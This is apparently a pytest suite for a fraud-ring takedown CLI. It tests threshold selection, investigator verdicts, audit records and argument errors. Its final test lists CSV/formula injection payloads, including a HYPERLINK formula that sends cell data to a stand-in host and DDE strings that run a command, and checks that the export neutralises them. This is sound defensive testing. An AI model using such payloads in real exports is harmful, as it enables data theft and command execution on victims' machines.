"""The takedown job (``ringscope flag``) on a real snapshot and a real SQLite store."""

from __future__ import annotations

import csv
import hashlib
from pathlib import Path

import polars as pl
import pytest

from ringscope.cli import main
from ringscope.config import RunConfig
from ringscope.pipeline import run_pipeline
from ringscope.privacy import load_keyring
from ringscope.ranking.takedown import COLUMNS, TakedownSettings, takedown_list
from ringscope.snapshot import read_table
from ringscope.store import open_store
from ringscope.worlds import WorldConfig, generate_world, write_world

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def snapshot(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One small published snapshot (embeddings off: not what these tests are about)."""
    base = tmp_path_factory.mktemp("takedown")
    paths = write_world(generate_world(WorldConfig(n_legit=300), seed=3), base / "world")
    events = [p for p in paths if p.name.startswith("events")]
    config = RunConfig()
    return run_pipeline(
        events, base / "snaps", config=config, keyring=load_keyring(allow_demo=True)
    )


@pytest.fixture
def db(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'verdicts.sqlite3'}"


def _flag(snapshot: Path, db: str, *args: str) -> int:
    return main(["flag", "--snapshot", str(snapshot), "--database-url", db, *args])


def _clusters(snapshot: Path) -> pl.DataFrame:
    return read_table(snapshot, "clusters").sort("score", descending=True)


def test_same_snapshot_and_settings_give_the_same_bytes(snapshot, db, tmp_path):
    for suffix in ("csv", "parquet"):
        first, second = tmp_path / f"a.{suffix}", tmp_path / f"b.{suffix}"
        assert _flag(snapshot, db, "--min-score", "0.3", "--out", str(first)) == 0
        assert _flag(snapshot, db, "--min-score", "0.3", "--out", str(second)) == 0
        assert first.read_bytes() == second.read_bytes()
    rows = pl.read_parquet(tmp_path / "a.parquet")
    assert tuple(rows.columns) == COLUMNS
    assert rows.equals(pl.read_csv(tmp_path / "a.csv", schema=rows.schema))
    assert rows["score"].min() >= 0.3
    assert not rows["actor"].is_duplicated().any()


def test_threshold_and_cap_select_the_top_clusters(snapshot):
    clusters = _clusters(snapshot)
    top2 = set(clusters["cluster_id"][:2])
    result = takedown_list(snapshot, TakedownSettings(min_score=0.0, max_clusters=2), {})
    assert set(result.rows["cluster"]) == top2
    assert result.counts["clusters_flagged"] == 2
    members = read_table(snapshot, "members").filter(pl.col("cluster_id").is_in(list(top2)))
    assert result.counts["actors_flagged"] == members.height == result.rows.height
    # rows come cluster by cluster, highest score first, actors sorted within a cluster
    assert result.rows["score"].is_sorted(descending=True)
    for _, group in result.rows.group_by("cluster"):
        assert group["actor"].is_sorted()


def test_dismissed_clusters_are_excluded_and_confirmed_ones_included(snapshot, db, tmp_path):
    clusters = _clusters(snapshot)
    top, low = clusters["cluster_id"][0], clusters["cluster_id"][-1]
    threshold = float(clusters["score"][0]) - 1e-9
    store = open_store(db)
    store.add_verdict(top, "dismissed", investigator="bob", snapshot_id=snapshot.name)
    store.add_verdict(low, "needs_more_info", investigator="bob", snapshot_id=snapshot.name)
    store.add_verdict(low, "confirmed", investigator="carol", snapshot_id=snapshot.name)
    store.close()
    out = tmp_path / "list.csv"
    assert _flag(snapshot, db, "--min-score", str(threshold), "--out", str(out)) == 0
    rows = pl.read_csv(out)
    assert top not in set(rows["cluster"])
    assert set(rows["cluster"]) == {low}
    assert rows["reasons"].str.starts_with("confirmed by an investigator").all()
    # a later verdict wins: dismissing the confirmed cluster removes it again
    store = open_store(db)
    store.add_verdict(low, "dismissed", investigator="dave", snapshot_id=snapshot.name)
    store.close()
    assert _flag(snapshot, db, "--min-score", str(threshold), "--out", str(out)) == 0
    assert pl.read_csv(out).height == 0


def test_each_run_appends_an_audit_record(snapshot, db, tmp_path, capsys):
    out = tmp_path / "list.parquet"
    assert _flag(snapshot, db, "--min-score", "0.4", "--out", str(out), "--principal", "erin") == 0
    assert _flag(snapshot, db, "--min-score", "0.4", "--max-clusters", "1", "--dry-run") == 0
    printed = capsys.readouterr().out
    assert '"clusters_flagged"' in printed
    store = open_store(db)
    newest, oldest = store.audit_log(kind="takedown.flag")
    store.close()
    assert oldest.principal == "erin"
    assert oldest.payload["snapshot"] == snapshot.name
    assert oldest.payload["settings"] == {"min_score": 0.4, "max_clusters": None}
    assert oldest.payload["counts"]["actors_flagged"] == pl.read_parquet(out).height
    assert oldest.payload["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()
    assert newest.payload["dry_run"] is True
    assert newest.payload["settings"]["max_clusters"] == 1
    assert newest.payload["counts"]["clusters_flagged"] <= 1
    assert newest.principal  # the OS user when no --principal is given


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--min-score", "1.5", "--dry-run"], "--min-score must be between 0 and 1"),
        (["--min-score", "0.5", "--max-clusters", "0", "--dry-run"], "--max-clusters"),
        (["--min-score", "0.5", "--out", "list.txt"], ".csv or .parquet"),
        (["--min-score", "0.5"], "--out FILE"),
        (["--min-score", "0.5", "--out", "missing-dir/list.csv"], "does not exist"),
    ],
)
def test_bad_arguments_fail_clearly_without_trace(snapshot, db, tmp_path, capsys, args, message):
    args = [a if not a.endswith((".txt", ".csv")) else str(tmp_path / a) for a in args]
    assert _flag(snapshot, db, *args) == 2
    assert message in capsys.readouterr().err
    assert not list(tmp_path.glob("*.csv")) and not list(tmp_path.glob("*.txt"))
    store = open_store(db)
    assert store.audit_log(kind="takedown.flag") == []
    store.close()


def test_missing_snapshot_is_a_clear_error(tmp_path, db, capsys):
    assert _flag(tmp_path / "nope", db, "--min-score", "0.5", "--dry-run") == 2
    assert "does not exist" in capsys.readouterr().err


HOSTILE_IDS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "\rCR=1+1",
)


def test_csv_cells_cannot_run_as_formulas(snapshot, db, tmp_path):
    """OWASP CSV injection: cells starting with = + - @ tab CR are prefixed with ' and
    every text cell is quoted, so a spreadsheet shows them as text."""
    hostile = tmp_path / "snap"
    hostile.mkdir()
    for f in snapshot.iterdir():
        (hostile / f.name).write_bytes(f.read_bytes())
    members = read_table(snapshot, "members")
    top = _clusters(snapshot)["cluster_id"][0]
    originals = members.filter(pl.col("cluster_id") == top)["actor_id"].to_list()
    rename = dict(zip(originals, HOSTILE_IDS, strict=False))
    for table in ("members", "actors"):
        frame = read_table(snapshot, table).with_columns(pl.col("actor_id").replace(rename))
        frame.write_parquet(hostile / f"{table}.parquet")
    out = tmp_path / "takedown.csv"
    assert _flag(hostile, db, "--min-score", "0", "--out", str(out)) == 0
    text = out.read_bytes().decode()
    for actor in rename.values():
        quoted = actor.replace('"', '""')
        assert f'"\'{quoted}"' in text, actor
    with out.open(newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
